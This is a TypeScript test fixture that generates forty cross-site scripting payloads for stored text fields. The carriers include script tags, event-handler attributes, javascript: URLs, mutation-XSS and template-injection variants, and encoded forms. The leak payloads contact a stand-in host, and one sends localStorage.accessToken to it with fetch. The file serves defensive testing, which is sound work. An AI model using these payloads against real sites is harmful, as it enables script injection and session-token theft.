/** Called by whatever manages to run; the test looks whether anything did. */
const ran = (id: number | string) => `window.xssRan(${JSON.stringify(id)})`

/** A host that must never be asked for anything. */
export const foreignHost = 'evil.test'

const carriers: readonly ((script: string) => string)[] = [
  (script) => `<script>${script}</script>`,
  (script) => `"><script>${script}</script>`,
  (script) => `'><script>${script}</script>`,
  (script) => `</title><script>${script}</script>`,
  (script) => `</textarea><script>${script}</script>`,
  (script) => `</style><script>${script}</script>`,
  (script) => `<img src=x onerror="${script}">`,
  (script) => `<img src=x onerror='${script}'//`,
  (script) => `<svg onload="${script}">`,
  (script) => `<svg><script>${script}</script></svg>`,
  (script) => `<svg><animate onbegin="${script}" attributeName=x dur=1s>`,
  (script) => `<body onload="${script}">`,
  (script) => `<iframe srcdoc="<script>parent.${script}</script>"></iframe>`,
  (script) => `<iframe src="javascript:parent.${script}"></iframe>`,
  (script) => `<a href="javascript:${script}" id=a>x</a>`,
  (script) => `javascript:${script}`,
  (script) => `<details open ontoggle="${script}">`,
  (script) => `<input autofocus onfocus="${script}">`,
  (script) => `<video><source onerror="${script}">`,
  (script) => `<math><mtext><table><mglyph><style><img src=x onerror="${script}"></style>`,
  (script) =>
    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror='${script}' src>">`,
  (script) => `<noscript><p title="</noscript><img src=x onerror='${script}'>">`,
  (script) => `<template><img src=x onerror="${script}"></template>`,
  (script) => `<object data="javascript:${script}"></object>`,
  (script) => `<embed src="javascript:${script}">`,
  (script) => `<meta http-equiv="refresh" content="0;url=javascript:${script}">`,
  (script) => `<base href="javascript:${script}//">`,
  (script) => `{{constructor.constructor('${script.replaceAll("'", '"')}')()}}`,
  (script) => `\${${script}}`,
  (script) => `[x](javascript:${script})`,
  (script) => `<sc<script>ript>${script}</script>`,
  (script) => `%3Cscript%3E${script}%3C/script%3E`,
  (script) => `&lt;script&gt;${script}&lt;/script&gt;`,
]

const leaks: readonly string[] = [
  `<img src="https://${foreignHost}/i">`,
  `<link rel=stylesheet href="https://${foreignHost}/s.css">`,
  `<style>@import url(https://${foreignHost}/c.css)</style>`,
  `<div style="background:url(https://${foreignHost}/b)">x</div>`,
  `<iframe src="https://${foreignHost}/f"></iframe>`,
  `<form action="https://${foreignHost}/p"><button>x</button></form>`,
  `<script src="https://${foreignHost}/x.js"></script>`,
  `<script>fetch("https://${foreignHost}/?"+localStorage.accessToken)</script>`,
]

/** Where this becomes an element, somebody's text was read as markup, whatever the payload behind it does. */
export const markerSelector = '[data-planted]'
const marker = '<b data-planted></b>'

/** A bare address stays bare: it is meant for a link, not for a text. */
const marked = (payload: string): string => (payload.startsWith('javascript:') ? payload : marker + payload)

/** What can be stored in a text field by somebody who means harm (S3): forty of them, each in a value of its own. */
export const payloads: readonly string[] = [...carriers.map((carry, index) => carry(ran(index))), ...leaks]
  .slice(0, 40)
  .map(marked)
